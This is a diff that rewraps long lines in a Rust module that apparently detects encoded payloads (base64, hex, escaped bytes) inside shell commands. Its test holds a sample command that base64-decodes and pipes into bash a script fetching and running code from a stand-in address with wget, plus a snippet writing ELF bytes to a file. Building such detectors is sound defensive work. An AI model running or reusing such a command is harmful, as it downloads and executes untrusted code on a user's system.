@@ -43,9 +43,13 @@ pub struct Payload {
     pub looks_like: Option<String>,
 }
 
-/// Payloads of a command, each with 16 bytes that name it. Public keys are none: they are known for what they are.
+/// Payloads of a command, each with 16 bytes that name it. Public keys are none: they are known for what they
+/// are.
 pub fn payloads(command: &str) -> Vec<([u8; 16], Payload)> {
-    let keys: Vec<&str> = indicators(command).into_iter().filter_map(|one| if let Indicator::Key(key) = one { Some(key) } else { None }).collect();
+    let keys: Vec<&str> = indicators(command)
+        .into_iter()
+        .filter_map(|one| if let Indicator::Key(key) = one { Some(key) } else { None })
+        .collect();
     let mut found = Vec::new();
     for (encoding, run) in runs(command) {
         if found.len() >= MOST {
@@ -74,7 +78,8 @@ fn describe(encoding: Encoding, bytes: &[u8]) -> Payload {
         (b"BZh", "bzip2"),
         (b"UPX!", "UPX"),
     ];
-    let looks_like = known.iter().find(|(start, _)| bytes.starts_with(start)).map(|(_, name)| (*name).to_owned());
+    let looks_like =
+        known.iter().find(|(start, _)| bytes.starts_with(start)).map(|(_, name)| (*name).to_owned());
     Payload {
         encoding,
         length: bytes.len() as u64,
@@ -91,12 +96,19 @@ fn runs(command: &str) -> Vec<(Encoding, &str)> {
     let mut rest = command;
     while let Some(start) = rest.find(|c: char| is_base64(c) || c == '\\') {
         rest = &rest[start..];
-        let (encoding, end) = if rest.starts_with('\\') { (Encoding::Escapes, escapes(rest)) } else { (Encoding::Base64, end_of(rest, is_base64)) };
+        let (encoding, end) = if rest.starts_with('\\') {
+            (Encoding::Escapes, escapes(rest))
+        } else {
+            (Encoding::Base64, end_of(rest, is_base64))
+        };
         let run = &rest[..end];
         if run.len() >= SHORTEST {
-            let hex = run.bytes().all(|byte| byte.is_ascii_hexdigit()) && run.bytes().any(|byte| byte.is_ascii_digit());
+            let hex = run.bytes().all(|byte| byte.is_ascii_hexdigit())
+                && run.bytes().any(|byte| byte.is_ascii_digit());
             // A path or a word in one case is written in letters of base64, too.
-            let mixed = run.bytes().any(|b| b.is_ascii_uppercase()) && run.bytes().any(|b| b.is_ascii_lowercase()) && run.matches('/').count() * 10 < run.len();
+            let mixed = run.bytes().any(|b| b.is_ascii_uppercase())
+                && run.bytes().any(|b| b.is_ascii_lowercase())
+                && run.matches('/').count() * 10 < run.len();
             match encoding {
                 Encoding::Escapes if run.bytes().all(|byte| byte == b'\\') => (),
                 Encoding::Escapes => found.push((Encoding::Escapes, run)),
@@ -147,7 +159,9 @@ fn count(bytes: &[u8], from: usize, most: usize, wanted: impl Fn(u8) -> bool) ->
 
 fn decode(encoding: Encoding, run: &str) -> Option<Vec<u8>> {
     match encoding {
-        Encoding::Hex => (0..run.len() / 2).map(|n| u8::from_str_radix(&run[2 * n..2 * n + 2], 16).ok()).collect(),
+        Encoding::Hex => {
+            (0..run.len() / 2).map(|n| u8::from_str_radix(&run[2 * n..2 * n + 2], 16).ok()).collect()
+        }
         Encoding::Base64 => Some(base64(run.trim_end_matches('='))),
         Encoding::Escapes => Some(run.split('\\').filter(|part| !part.is_empty()).filter_map(byte).collect()),
     }
@@ -182,8 +196,8 @@ fn base64(text: &str) -> Vec<u8> {
     bytes
 }
 
-/// An entropy as a part of what as many random bytes have on average: log2 k − (k − 1) / (2 n ln 2) with k = min(n, 256) (Miller 1955), so that a short
-/// payload is not taken for an orderly one. In [0, 1].
+/// An entropy as a part of what as many random bytes have on average: log2 k − (k − 1) / (2 n ln 2) with k =
+/// min(n, 256) (Miller 1955), so that a short payload is not taken for an orderly one. In [0, 1].
 pub fn randomness(entropy: f64, length: usize) -> f64 {
     let (n, k) = (length.max(1) as f64, length.clamp(1, 256) as f64);
     let random = k.log2() - (k - 1.0) / (2.0 * n * std::f64::consts::LN_2);
@@ -196,13 +210,24 @@ mod tests {
 
     #[test]
     fn encoded_bytes_are_found_and_read() {
-        let found = payloads("echo IyEvYmluL2Jhc2gKd2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8tIHwgc2gK | base64 -d | bash");
+        let found =
+            payloads("echo IyEvYmluL2Jhc2gKd2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8tIHwgc2gK | base64 -d | bash");
         assert_eq!(found.len(), 1);
-        assert_eq!((found[0].1.encoding, found[0].1.looks_like.as_deref()), (Encoding::Base64, Some("script")));
-        assert!(found[0].1.preview.starts_with("#!/bin/bash·wget http://192.0.2.1/x"), "{}", found[0].1.preview);
+        assert_eq!(
+            (found[0].1.encoding, found[0].1.looks_like.as_deref()),
+            (Encoding::Base64, Some("script"))
+        );
+        assert!(
+            found[0].1.preview.starts_with("#!/bin/bash·wget http://192.0.2.1/x"),
+            "{}",
+            found[0].1.preview
+        );
         let elf = format!("echo -ne '{}' >> x", r"\x7f\x45\x4c\x46\x01\x01\x01\x00\x00\x02\x03\x04");
         assert_eq!(payloads(&elf)[0].1.looks_like.as_deref(), Some("ELF program"));
-        assert_eq!(payloads(&format!("echo {} | xxd -r -p", "7f454c46".repeat(6)))[0].1.encoding, Encoding::Hex);
+        assert_eq!(
+            payloads(&format!("echo {} | xxd -r -p", "7f454c46".repeat(6)))[0].1.encoding,
+            Encoding::Hex
+        );
         for none in [
             "cat /usr/share/doc/packages/something/long/enough/to/be/considered",
             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
@@ -217,7 +242,8 @@ mod tests {
 
     #[test]
     fn a_short_random_payload_is_as_random_as_a_long_one() {
-        let random = |n: usize| (0..n).map(|i| blake3::hash(&i.to_le_bytes()).as_bytes()[0]).collect::<Vec<u8>>();
+        let random =
+            |n: usize| (0..n).map(|i| blake3::hash(&i.to_le_bytes()).as_bytes()[0]).collect::<Vec<u8>>();
         for n in [64, 300, 5_000] {
             let bytes = random(n);
             let value = randomness(entropy(&bytes), n);
